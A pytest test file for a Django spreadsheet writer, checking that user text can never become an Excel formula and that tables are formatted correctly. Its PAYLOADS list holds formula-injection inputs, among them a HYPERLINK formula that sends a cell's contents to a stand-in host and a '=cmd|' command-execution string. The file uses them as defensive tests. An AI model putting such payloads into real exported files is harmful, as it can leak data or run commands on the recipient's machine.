"""core.spreadsheets: text is never a formula; tables are formatted for people (bold frozen filtered
headers, widths, numbers with number formats, ratings as words as well as colour)."""

import datetime as dt
import io
from decimal import Decimal
from fractions import Fraction

import pytest
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.spreadsheets import DATE, DATETIME, PERCENT, WHOLE, Column, SpreadsheetWriter, Styled, rating

PAYLOADS = ['=HYPERLINK("http://x/?"&B2,"Click")', "+1", "-1", "@SUM(A1)", "\tx", "=1+1", "-2+3", "#N/A", "=cmd|x"]


TEXT = Column("Text", 30)


def one_table(rows, columns=(TEXT,), **options):
    writer = SpreadsheetWriter()
    table = writer.table("Data", list(columns), **options)
    for row in rows:
        table.append(row)
    return load_workbook(io.BytesIO(writer.to_bytes()))["Data"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_looks_like_a_formula_is_a_text_cell_with_its_value_unchanged(payload):
    cell = one_table([[payload]])["A2"]
    assert (cell.value, cell.data_type) == (payload, "s")


@pytest.mark.parametrize("payload", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx"])
def test_such_text_keeps_excels_quote_prefix_so_an_edit_does_not_make_it_a_formula(payload):
    assert one_table([[payload]])["A2"].quotePrefix is True


@pytest.mark.parametrize("text", ["Plain text", "x=1", "", "1 - 2"])
def test_ordinary_text_has_no_quote_prefix(text):
    cell = one_table([["lead", text]], columns=[Column("A"), Column("B")])["B2"]
    assert cell.quotePrefix is False


# Text XLSX can hold: no control characters other than tab and line feed, no lone surrogates; a carriage
# return is tested on its own below.
XLSX_TEXT = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\r").filter(
        lambda c: c in "\t\n" or ord(c) >= 32
    ),
    max_size=60,
)


@settings(max_examples=200, deadline=None)
@given(text=st.one_of(XLSX_TEXT, st.sampled_from("=+-@\t").flatmap(lambda first: XLSX_TEXT.map(first.__add__))))
def test_any_text_is_read_back_unchanged_as_text(text):
    cell = one_table([["lead", text]], columns=[Column("A"), Column("B")])["B2"]
    assert cell.data_type != "f"
    if text:  # an empty string is an empty cell
        assert (cell.value, cell.data_type) == (text, "s")


def test_a_carriage_return_is_written_as_the_line_feed_xml_reads_it_as():
    cell = one_table([["\rx"], ["a\r\nb"]])
    assert [(c.value, c.data_type) for c in (cell["A2"], cell["A3"])] == [("\nx", "s"), ("a\nb", "s")]


def test_control_characters_xlsx_cannot_hold_are_dropped_instead_of_failing():
    assert one_table([["ok\x01\x00"]])["A2"].value == "ok"


def test_no_cell_in_any_row_of_a_table_is_a_formula():
    sheet = one_table(
        [[p, p] for p in PAYLOADS], columns=[Column("A"), Column("B")], title="=title", lines=[("=x", "=y")]
    )
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_header_is_bold_frozen_filtered_and_columns_have_their_widths():
    columns = [Column("Name", 30), Column("Share", 12, PERCENT)]
    sheet = one_table([["Provider One", 0.5], ["Provider Two", 0.25]], columns=columns)
    assert [c.value for c in sheet[1]] == ["Name", "Share"] and all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (30, 12)
    assert not any(c.font.b for c in sheet[2])


def test_lines_above_the_table_move_the_header_and_the_frozen_row_down():
    sheet = one_table([["a"]], title="Report", lines=[("As at", dt.date(2026, 5, 1)), ("ICB", "Test ICB")])
    assert sheet["A1"].value == "Report" and sheet["A1"].font.sz == 14
    assert (sheet["A2"].value, sheet["B2"].value.date(), sheet["B2"].number_format) == (
        "As at",
        dt.date(2026, 5, 1),
        DATE,
    )
    assert sheet["A4"].value == "Text" and sheet["A4"].font.b
    assert sheet.freeze_panes == "A5" and sheet.auto_filter.ref == "A4:A5"


def test_an_empty_table_still_filters_its_header():
    assert one_table([]).auto_filter.ref == "A1:A1"


def test_a_percentage_is_a_number_with_a_percentage_format_never_text():
    cell = one_table([[0.929]], columns=[Column("Share", 10, PERCENT)])["A2"]
    assert (cell.value, cell.data_type, cell.number_format) == (0.929, "n", "0.0%")


@pytest.mark.parametrize(
    "value, column_format, expected, number_format",
    [
        (12, WHOLE, 12, "0"),
        (Decimal("3"), WHOLE, 3, "0"),
        (Fraction(2, 3), PERCENT, pytest.approx(2 / 3), "0.0%"),
        (dt.date(2026, 4, 30), None, dt.datetime(2026, 4, 30), DATE),
        (dt.date(2026, 4, 30), WHOLE, dt.datetime(2026, 4, 30), DATE),
        ("n/a", PERCENT, "n/a", "General"),
        (True, WHOLE, True, "General"),
    ],
)
def test_numbers_and_dates_keep_their_type_and_get_a_format(value, column_format, expected, number_format):
    cell = one_table([[value]], columns=[Column("X", 10, column_format)])["A2"]
    assert (cell.value, cell.number_format) == (expected, number_format)


def test_an_aware_time_is_written_in_local_time():
    moment = timezone.make_aware(dt.datetime(2026, 7, 1, 9, 30))
    cell = one_table([[moment]])["A2"]
    assert (cell.value, cell.number_format) == (timezone.localtime(moment).replace(tzinfo=None), DATETIME)


@pytest.mark.parametrize("word, fill", [("Red", "F6D4D1"), ("Amber", "FFEEBB"), ("Green", "CCE5D8")])
def test_a_rating_is_its_word_and_its_colour(word, fill):
    cell = one_table([[rating(word)]])["A2"]
    assert (cell.value, cell.data_type, cell.fill.fgColor.rgb) == (word, "s", "00" + fill)


def test_no_rating_is_an_empty_cell():
    assert rating("") is None and rating(None) is None


def test_a_styled_value_keeps_its_own_number_format_over_the_columns():
    cell = one_table([[Styled(0.5, number_format=PERCENT, bold=True)]], columns=[Column("X", 10, WHOLE)])["A2"]
    assert (cell.number_format, cell.font.b) == (PERCENT, True)


def test_a_hidden_sheet_holds_plain_rows_safely():
    writer = SpreadsheetWriter()
    writer.table("Data", [Column("X")])
    writer.hidden_sheet("_meta", [["key", "=1+1"], ["id", 7]])
    book = load_workbook(io.BytesIO(writer.to_bytes()))
    meta = book["_meta"]
    assert meta.sheet_state == "hidden"
    assert [[c.value for c in row] for row in meta.iter_rows()] == [["key", "=1+1"], ["id", 7]]
    assert meta["B1"].data_type == "s"


def test_a_long_sheet_name_is_cut_to_excels_31_characters():
    writer = SpreadsheetWriter()
    writer.table("a" * 40, [Column("X")])
    assert load_workbook(io.BytesIO(writer.to_bytes())).sheetnames == ["a" * 31]
